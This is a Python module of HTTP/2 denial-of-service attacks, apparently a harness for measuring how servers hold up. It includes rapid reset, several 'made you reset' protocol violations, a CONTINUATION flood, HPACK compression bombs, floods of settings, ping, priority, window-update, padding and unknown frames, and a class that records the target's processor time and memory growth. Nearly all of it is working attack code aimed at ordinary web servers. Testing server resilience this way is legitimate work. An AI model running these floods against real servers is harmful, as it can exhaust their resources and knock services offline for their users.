"""Attacks over HTTP/2, each a function of a connected client, and what they cost the attacked.

An attack returns how many units of it went out; it ends when the peer ends the connection, when the
peer has read nothing for STALL seconds, or when all is sent.
"""

import contextlib
import threading
import time

import frames
from frames import (
    END_HEADERS,
    END_STREAM,
    HEADER_TABLE_SIZE,
    INCREMENTAL,
    INITIAL_WINDOW_SIZE,
    MAX_WINDOW,
)
from processes import cpu_seconds, rss_kib

STALL = 2.0
GET = frames.block(frames.request())
POST = frames.block(frames.request("POST"))


def pour(client, parts, read=True):
    """Sends octet strings one after the other; how many went out."""
    sent, patient = 0, client.timeout
    client.timeout = STALL
    with contextlib.suppress(TimeoutError):
        for part in parts:
            if client.closed or client.goaways or not client.send(part):
                break
            sent += 1
            if read:
                client.fill(0)
    client.timeout = patient
    return sent


def in_batches(count, size, make):
    """Octet strings of `size` units each, for `count` units made by `make(number)`."""
    for first in range(0, count, size):
        yield b"".join(make(number) for number in range(first, min(count, first + size)))


def flood(client, count, make, read=True, size=50):
    """`count` units of `make(number)`; how many went out."""
    return pour(client, in_batches(count, size, make), read) * size


def stream_of(number):
    return 2 * number + 1


# --- streams that are begun and reset ---


def rapid_reset(client, count):
    return flood(
        client,
        count,
        lambda n: frames.headers(stream_of(n), GET) + frames.rst_stream(stream_of(n)),
    )


MADE_YOU_RESET = {
    "window of 0": lambda s: frames.headers(s, GET) + frames.window_update(s, 0),
    "window overflow": lambda s: frames.headers(s, GET) + frames.window_update(s, MAX_WINDOW),
    "data after the end": lambda s: frames.headers(s, GET) + frames.data(s, b"x"),
    "headers after the end": lambda s: frames.headers(s, GET) * 2,
    "wrong length": lambda s: (
        frames.headers(s, frames.block(frames.request("POST", fields=[("content-length", "1")])), 0)
        + frames.data(s, b"xx")
    ),
    "depends on itself": lambda s: frames.headers(s, GET) + frames.priority(s, s),
    "malformed": lambda s: frames.headers(s, GET + frames.block([("connection", "close")])),
}


def made_you_reset(client, count, kind, read=True):
    make = MADE_YOU_RESET[kind]
    return flood(client, count, lambda n: make(stream_of(n)), read, 50 if read else 1000)


# --- field blocks ---


def continuation_flood(client, count, size):
    """A field block without an end, of CONTINUATIONs with `size` octets of fields each."""
    client.send(frames.headers(1, GET, end_headers=False))
    payload = frames.literal("x-flood", "v" * max(0, size - 11)) if size > 11 else b"\0" * size
    one = frames.continuation(1, payload, end_headers=False)
    return flood(client, count, lambda _: one, size=1 if size > 4096 else 50)


def hpack_bomb(client, streams, references=10_000):
    """One entry of nearly 4 KiB, referred to by `references` octets in each block."""
    entry = frames.literal("x-bomb", "b" * 4000, INCREMENTAL)
    sent = 0
    for number in range(streams):
        block = GET + (entry if number == 0 else b"") + frames.indexed(62) * references
        sent += pour(client, [in_frames(stream_of(number), block)])
    return sent


def small_bomb(client, streams, references=12_000):
    """A nearly empty entry, referred to very often, with windows that let no answer out."""
    client.send(frames.settings((INITIAL_WINDOW_SIZE, 0)))
    entry = frames.literal("a", "", INCREMENTAL)
    sent = 0
    for number in range(streams):
        block = GET + (entry if number == 0 else b"") + frames.indexed(62) * references
        sent += pour(client, [in_frames(stream_of(number), block)])
    return sent


def in_frames(stream, block):
    """A request of a field block that may need several frames."""
    size = frames.DEFAULT_FRAME
    parts = [block[at : at + size] for at in range(0, len(block), size)]
    last = len(parts) - 1
    made = frames.frame(frames.HEADERS, END_STREAM | (0 if last else END_HEADERS), stream, parts[0])
    return made + b"".join(
        frames.continuation(stream, part, at == last) for at, part in enumerate(parts) if at
    )


# --- frames without work in them ---


def settings_flood(client, count, read):
    return flood(client, count, lambda _: frames.settings(), read, size=1000)


def table_flood(client, count):
    sizes = (0, 4096)
    return flood(client, count, lambda n: frames.settings((HEADER_TABLE_SIZE, sizes[n % 2])))


def window_swing(client, count):
    """Initial windows that change again and again while many streams are open."""
    streams = min(100, client.streams_allowed)
    client.send(*(frames.headers(stream_of(n), POST, end_stream=False) for n in range(streams)))
    return flood(client, count, lambda n: frames.settings((INITIAL_WINDOW_SIZE, 1000 + n % 2)))


def ping_flood(client, count, read):
    return flood(client, count, lambda n: frames.ping(n.to_bytes(8, "big")), read, size=1000)


def priority_flood(client, count):
    return flood(client, count, lambda n: frames.priority(stream_of(n % 5000), 0, 1 + n % 256))


def window_update_flood(client, count):
    return flood(client, count, lambda _: frames.window_update(0, 1), size=500)


def empty_data_flood(client, count):
    client.send(frames.headers(1, POST, end_stream=False))
    return flood(client, count, lambda _: frames.data(1, b"", end_stream=False), size=200)


def padding_flood(client, count):
    """DATA of padding alone: windows are used, no octet arrives."""
    client.send(frames.headers(1, POST, end_stream=False))
    one = frames.frame(frames.DATA, frames.PADDED, 1, b"\xff" + b"\0" * 255)
    return flood(client, count, lambda _: one)


def empty_names(client, count):
    """Fields without name and value."""
    return pour(client, [in_frames(1, GET + frames.literal("", "") * count)])


def unknown_flood(client, count):
    return flood(client, count, lambda _: frames.frame(0xEE, 0, 0, b"x" * 16))


def ask_all(client, count, path="/big"):
    """As many requests as there may be at once; nothing else."""
    block = frames.block(frames.request(path=path))
    streams = min(count, client.streams_allowed)
    return pour(client, (frames.headers(stream_of(n), block) for n in range(streams)), read=False)


# --- what it costs ---


class Watch:
    """Processor time and the highest memory of processes while a block runs."""

    def __init__(self, pids):
        self.pids = pids
        self.cpu = self.growth_kib = 0.0
        self.running = True

    def memory(self):
        return sum(rss_kib(pid) for pid in self.pids)

    def __enter__(self):
        self.before_cpu = sum(cpu_seconds(pid) for pid in self.pids)
        self.before_memory = self.memory()
        self.thread = threading.Thread(target=self.sample, daemon=True)
        self.thread.start()
        return self

    def sample(self):
        while self.running:
            with contextlib.suppress(OSError):
                self.growth_kib = max(self.growth_kib, self.memory() - self.before_memory)
            time.sleep(0.02)

    def __exit__(self, *_):
        self.running = False
        self.thread.join()
        with contextlib.suppress(OSError):
            self.cpu = sum(cpu_seconds(pid) for pid in self.pids) - self.before_cpu
